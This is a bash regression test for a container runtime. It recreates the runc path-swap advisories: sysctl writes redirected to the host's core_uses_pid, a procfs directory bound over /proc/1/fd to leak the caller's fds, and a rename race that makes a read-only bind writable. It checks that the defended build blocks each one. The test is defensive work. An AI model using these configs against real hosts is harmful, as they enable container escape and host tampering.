#!/bin/bash
# Issue #22 (runc's 2025 advisories CVE-2025-31133/52565/52881, and
# CVE-2021-30465): the runtime tricked into writing or mounting the wrong file
# because a path it trusted was replaced while it set the container up. Each
# attack here is the advisories' own, and test_path_swap_undefended runs them
# against the rrun before the defence (b27100a) with PATH_SWAP_EXPECT=escape:
# there the sysctl ones changed the host's kernel.core_uses_pid (static, and
# in 27 of 200 racing creates), a procfs dir over /proc/1/fd let the caller's
# fds into the container, and the rename race made the read-only bind
# writable (in 3-6% of the creates, root and rootless). oom_score_adj,
# uid_map, gid_map and setgroups are written by the parent through the host's
# /proc, and timens_offsets before the container has any mount: no config
# mount can be put over them. The LSM attr/exec files are tried in the
# systemd guest, where AppArmor is active (tests/vm/systemd/apparmor.sh): no
# LSM that has them is active on the test machine (its securityfs lsm file:
# lockdown,capability,landlock,bpf; /proc/self/attr/exec gives EINVAL).
source "$(dirname "$0")/lib.sh"
need_root
SWAP_EXCHANGE=${SWAP_EXCHANGE:-}
if [ -z "$SWAP_EXCHANGE" ]; then
    SWAP_EXCHANGE=$WORK/swap_exchange
    cc -O2 -o "$SWAP_EXCHANGE" "$TESTS_DIR/integration/swap_exchange.c" || skip_all "no C compiler for swap_exchange.c (or set SWAP_EXCHANGE)"
fi
chmod 755 "$SWAP_EXCHANGE"
# PATH_SWAP_PARTS: the parts to run (default all: a b c d r, r the rootless ones).
PARTS=${PATH_SWAP_PARTS:-abcdr}
part() { [[ $PARTS == *$1* ]]; }
# PATH_SWAP_EXPECT=escape (test_path_swap_undefended): RRUN is the rrun before
# the defences, and each attack must get through it, else it proves nothing
# here; a race stops at its first escape. The checks that rrun does its job
# (the write reached the container's own file, the creates succeed) are not
# asked of it.
ESCAPE=0
[ "${PATH_SWAP_EXPECT:-}" = escape ] && ESCAPE=1
# attack_result DESC ESCAPES DETAIL: on rrun no escape; undefended, at least one.
attack_result() {
    if [ $ESCAPE = 1 ]; then
        check_true "$1: gets through the undefended rrun ($3)" [ "$2" -gt 0 ]
    else
        check_eq "$1: never gets through ($3)" 0 "$2"
    fi
}
defended() { [ $ESCAPE = 0 ]; }
# The races' bounds (the issue's: 200 creates, 60 s). The undefended rrun
# loses the root rename race in only ~3% of its creates (see (d)), so it gets
# more time, and stops at the first escape; PATH_SWAP_RACE="CREATES SECONDS"
# sets them, PATH_SWAP_ALL=1 runs them whole (to measure the rates).
if defended; then read -r RACE_TRIES RACE_SECONDS <<<"${PATH_SWAP_RACE:-200 60}"; else read -r RACE_TRIES RACE_SECONDS <<<"${PATH_SWAP_RACE:-400 240}"; fi
# escaped: a race that has seen an escape stops there, on the undefended rrun.
escaped() { [ $ESCAPE = 1 ] && [ "${PATH_SWAP_ALL:-0}" != 1 ] && [ "$1" -gt 0 ]; }
# skip_undefended WHAT: a check this binary has always passed, so not run on it.
skip_undefended() { echo "# not run on the undefended rrun: $1"; }

CORE=/proc/sys/kernel/core_uses_pid
host_core=$(cat $CORE)
on_exit "echo $host_core > $CORE"
# The value the attacks try to give the host's core_uses_pid: its other one.
want=$((1 - host_core))
proc_bind="{'destination': '/proc/sys/net/ipv4/ip_forward', 'type': 'bind', 'source': '$CORE', 'options': ['bind']}"

make_test_bundle sec-
# The list of fds the close-on-exec fallback reads (close_range refused by a
# filter loaded early, as without noNewPrivileges): a procfs directory bound
# over /proc/1/fd, the init's, lists no fd, and the caller's fds 9 and 200
# (the engine's) would reach the program. ls, not pid 1, looks at its fds.
# fdlist_attack LABEL AS BUNDLE: AS is "" (root) or "as_user"
fdlist_attack() {
    local label=$1 as=$2 bundle=$3 out
    set_config "$bundle" "c['mounts'].append({'destination': '/proc/1/fd', 'type': 'bind', 'source': '/proc/sys/kernel', 'options': ['bind']}); c['linux']['seccomp'] = {'defaultAction': 'SCMP_ACT_ALLOW', 'syscalls': [{'names': ['close_range'], 'action': 'SCMP_ACT_ERRNO', 'errnoRet': 38}]}; c['process']['noNewPrivileges'] = False; c['linux']['readonlyPaths'] = []; c['linux']['maskedPaths'] = []"
    set_args "$bundle" sh -c 'ls /proc/self/fd | tr "\n" " "'
    if [ -n "$as" ]; then out=$(as_user "\$RRUN run -b $bundle sec-a3 9<$CORE 200<$CORE" 2>&1); else out=$(r run -b "$bundle" sec-a3 9<"$CORE" 200<"$CORE" 2>&1); fi
    attack_result "(a) $label: a procfs dir over /proc/1/fd letting the caller's fds 9 and 200 into the container" "$(echo " $out" | grep -cE ' (9|200) ')" "the program's fds: $out"
    defended && check_eq "(a) $label: the program has fds 0-2 (and ls's own 3)" "0 1 2 3 " "$out"
}

# --- (a) a procfs file bound over the sysctl's path (config mount after /proc)
if part a; then
reset
set_config "$B" "c['mounts'].append($proc_bind); c['linux']['sysctl'] = {'net.ipv4.ip_forward': '$want'}"
set_args "$B" cat /proc/sys/net/ipv4/conf/all/forwarding
out=$(r run -b "$B" sec-a1 2>&1)
rc=$?
now=$(cat $CORE)
attack_result "(a) sysctl over a bound core_uses_pid reaching the host's core_uses_pid" "$([ "$now" != "$host_core" ] && echo 1 || echo 0)" "it is $now, was $host_core; rrun's exit $rc"
echo "$host_core" > $CORE
if defended && [ $rc -eq 0 ]; then
    check_eq "the write reached the container's own ip_forward (seen as conf/all/forwarding)" "$want" "$(echo "$out" | tr -d '\r' | tail -1)"
elif defended; then
    check_contains "or the create failed naming the file" "/proc/sys/net/ipv4/ip_forward" "$out"
fi
check_eq "no state left" "" "$(ls "$STATE_ROOT" 2>/dev/null)"

# (a) the same for the list of fds the close-on-exec fallback reads.
reset
fdlist_attack root "" "$B"

# A rootfs with no /proc at all still gets its sysctl written.
if ! defended; then
    skip_undefended "(a) a rootfs without /proc (no attack: rrun's own procfs at work)"
else
reset
set_config "$B" "c['mounts'] = [m for m in c['mounts'] if m['destination'] != '/proc']; c['linux']['sysctl'] = {'net.ipv4.ip_forward': '$want'}; c['linux']['maskedPaths'] = []; c['linux']['readonlyPaths'] = []"
rmdir "$B/rootfs/proc"
set_args "$B" sh -c 'ls -d /proc 2>&1 | head -1; echo done'
out=$(r run -b "$B" sec-a2 2>&1)
check_contains "(a) a rootfs without /proc and no proc mount: the sysctl is written and the container runs" "done" "$out"
check_eq "the host's core_uses_pid is untouched" "$host_core" "$(cat $CORE)"
echo "$host_core" > $CORE
mkdir -p "$B/rootfs/proc"
fi
fi

# --- (b) the rootfs's /dev parts as symlinks to host paths
if part b && ! defended; then
    skip_undefended "(b) /dev/pts, /dev/null symlinked to host paths (resolved in the rootfs since rrun's first commit: test_hardening)"
elif part b; then
reset
HOSTDIR=$WORK/hostdir
mkdir -p "$HOSTDIR"
touch "$HOSTDIR/keep"
rm -rf "$B/rootfs/dev"
mkdir -p "$B/rootfs/dev"
ln -s "$HOSTDIR" "$B/rootfs/dev/pts"
ln -s "$HOSTDIR/keep" "$B/rootfs/dev/null"
set_config "$B" "c['mounts'] = [m for m in c['mounts'] if m['destination'] != '/dev']"
set_args "$B" sh -c 'echo x > /dev/null 2>&1; ls /dev/pts | head -3; echo done'
out=$(r run -b "$B" sec-b1 2>&1)
check_eq "a /dev/pts symlink to a host dir: nothing is mounted on the host dir" "" "$(grep " $HOSTDIR " /proc/self/mountinfo)"
check_eq "the host dir's contents are unchanged" "keep" "$(ls "$HOSTDIR")"
check_eq "the host file behind the /dev/null symlink is unchanged" "0" "$(stat -c %s "$HOSTDIR/keep")"
rm -rf "$B/rootfs/dev"
mkdir -p "$B/rootfs/dev"
fi

# --- (c) a racing container on an rshared volume mounts a procfs file under
# the first one's /proc (its /proc/sys/net/ipv4 is that volume) while it is created
if part c; then
VOL=$WORK/vol
mkdir -p "$VOL"
touch "$VOL/ip_forward"
mount --bind "$VOL" "$VOL" && mount --make-rshared "$VOL" || skip_all "cannot make a shared mount"
on_exit "umount -l $VOL"
RB=$WORK/racer
make_bundle "$RB"
set_config "$RB" "c['mounts'].append({'destination': '/vol', 'type': 'bind', 'source': '$VOL', 'options': ['rbind', 'rshared']}); c['linux']['rootfsPropagation'] = 'rshared'; c['linux']['readonlyPaths'] = []; c['linux']['maskedPaths'] = []; [c['process']['capabilities'][k].append('CAP_SYS_ADMIN') for k in ('bounding', 'effective', 'permitted')]"
set_args "$RB" sh -c 'while :; do mount --bind /proc/sys/kernel/core_uses_pid /vol/ip_forward; umount /vol/ip_forward; done'
r run -d -b "$RB" sec-racer >/dev/null 2>&1
check_true "the racing container runs" wait_for status_is sec-racer running
reset
set_config "$B" "c['mounts'].append({'destination': '/proc/sys/net/ipv4', 'type': 'bind', 'source': '$VOL', 'options': ['rbind', 'rslave']}); c['linux']['sysctl'] = {'net.ipv4.ip_forward': '$want'}"
set_args "$B" true
hits=0 created=0 tries=0 start=$SECONDS
while [ $tries -lt $RACE_TRIES ] && [ $((SECONDS - start)) -lt $RACE_SECONDS ] && ! escaped $hits; do
    tries=$((tries + 1))
    r create -b "$B" sec-c >/dev/null 2>&1 && created=$((created + 1))
    r delete -f sec-c >/dev/null 2>&1
    if [ "$(cat $CORE)" != "$host_core" ]; then
        hits=$((hits + 1))
        echo "$host_core" > $CORE
    fi
done
r delete -f sec-racer >/dev/null 2>&1
attack_result "(c) racing mounts under /proc sending the sysctl to the host's core_uses_pid" "$hits" "$tries creates, $created succeeded, $hits wrote it, $((SECONDS - start)) s"
defended && check_true "(c) and the creates succeed (the write goes to the private procfs)" [ "$created" -eq "$tries" ]
fi

# --- (d) CVE-2021-30465: the destination of a read-only bind swapped with a
# symlink (RENAME_EXCHANGE) while the container is created; the bind must
# never come out writable.
ROSRC=$WORK/rosrc
mkdir -p "$ROSRC"
mount -t tmpfs sec-rosrc "$ROSRC" || skip_all "cannot mount a tmpfs"
on_exit "umount -l $ROSRC"
echo data > "$ROSRC/file"
SV=$WORK/swapvol
# exchange_race LABEL AS: AS is "" (root) or "as_user"
exchange_race() {
    local label=$1 as=$2 bundle=$3 rw=0 tries=0 made=0 start=$SECONDS stop=$WORK/stop.$1 id pid
    rm -rf "$SV"; mkdir -p "$SV/d"
    ln -s . "$SV/l"
    [ -n "$as" ] && chown -R "$ROOTLESS_USER" "$SV"
    set_config "$bundle" "c['mounts'] += [{'destination': '/vol', 'type': 'bind', 'source': '$SV', 'options': ['rbind']}, {'destination': '/vol/d', 'type': 'bind', 'source': '$ROSRC', 'options': ['bind', 'ro']}]"
    set_args "$bundle" sleep 100
    rm -f "$stop"
    # Two racers: the names change more often than one alone swaps them (with
    # one, the undefended rrun lost 0 of 60 creates; with two, 2 of 60).
    local racers=() k
    for k in 1 2; do
        if [ -n "$as" ]; then as_user "$SWAP_EXCHANGE $SV d l $((RACE_SECONDS + 10)) $stop" >/dev/null & else "$SWAP_EXCHANGE" "$SV" d l $((RACE_SECONDS + 10)) "$stop" >/dev/null & fi
        racers+=($!)
    done
    while [ $tries -lt $RACE_TRIES ] && [ $((SECONDS - start)) -lt $RACE_SECONDS ] && ! escaped $rw; do
        tries=$((tries + 1))
        id=sec-d$tries
        if [ -n "$as" ]; then as_user "\$RRUN create -b $bundle $id" >/dev/null 2>&1; else r create -b "$bundle" $id >/dev/null 2>&1; fi
        pid=$(if [ -n "$as" ]; then as_user "\$RRUN state $id"; else r state $id; fi 2>/dev/null | json_field '["pid"]' 2>/dev/null)
        if [ -n "$pid" ] && [ "$pid" != 0 ]; then
            made=$((made + 1))
            # Every mount of the read-only source in the container: its per-mount options start "ro".
            awk '{ for (i = 1; i <= NF; i++) if ($i == "-") { if ($(i+2) == "sec-rosrc" && $6 !~ /^ro/) print; break } }' "/proc/$pid/mountinfo" | grep -q . && rw=$((rw + 1))
        fi
        if [ -n "$as" ]; then as_user "\$RRUN delete -f $id" >/dev/null 2>&1; else r delete -f $id >/dev/null 2>&1; fi
    done
    touch "$stop"
    wait "${racers[@]}"
    attack_result "(d) $label: the rename race making the read-only bind writable" "$rw" "$tries creates, $made made, $rw with the bind writable, $((SECONDS - start)) s"
    check_true "(d) $label: some creates succeeded (the race ran against real mounts)" [ "$made" -gt 0 ]
}
reset
part d && exchange_race root "" "$B"

if part r; then
    ensure_rootless_user
    RLB=$WORK/rootless
    make_rootless_bundle "$RLB"
    chmod 755 "$ROSRC"
    exchange_race rootless as_user "$RLB"
    cp "$RLB/config.json" "$WORK/rootless.json"
    fdlist_attack rootless as_user "$RLB"
    cp "$WORK/rootless.json" "$RLB/config.json"
    # The sysctl of (a) rootless: core_uses_pid belongs to the host's root,
    # so the redirected write was refused (the previous rrun failed the create
    # there); through the private procfs it reaches the container's ip_forward.
    set_config "$RLB" "c['mounts'] = [m for m in c['mounts'] if m['destination'] not in ('/vol', '/vol/d')]; c['mounts'].append($proc_bind); c['linux']['sysctl'] = {'net.ipv4.ip_forward': '$want'}; c['linux']['namespaces'].append({'type': 'network'})"
    set_args "$RLB" cat /proc/sys/net/ipv4/conf/all/forwarding
    out=$(as_user "\$RRUN run -b $RLB sec-ra" 2>&1)
    # Undefended, the write is sent to the host's file and refused there (EACCES,
    # where the container's own ip_forward is its to write): the host is safe
    # only because its root owns that file.
    last=$(echo "$out" | tail -1)
    if defended; then sent=$([ "$last" != "$want" ] && echo 1 || echo 0); else sent=$([[ $last == *"ip_forward: Permission denied"* ]] && echo 1 || echo 0); fi
    attack_result "rootless: the sysctl over a bound core_uses_pid sent to the host's file" "$sent" "the container saw ip_forward: $last"
    check_eq "rootless: the host's core_uses_pid is untouched" "$host_core" "$(cat $CORE)"
fi
finish
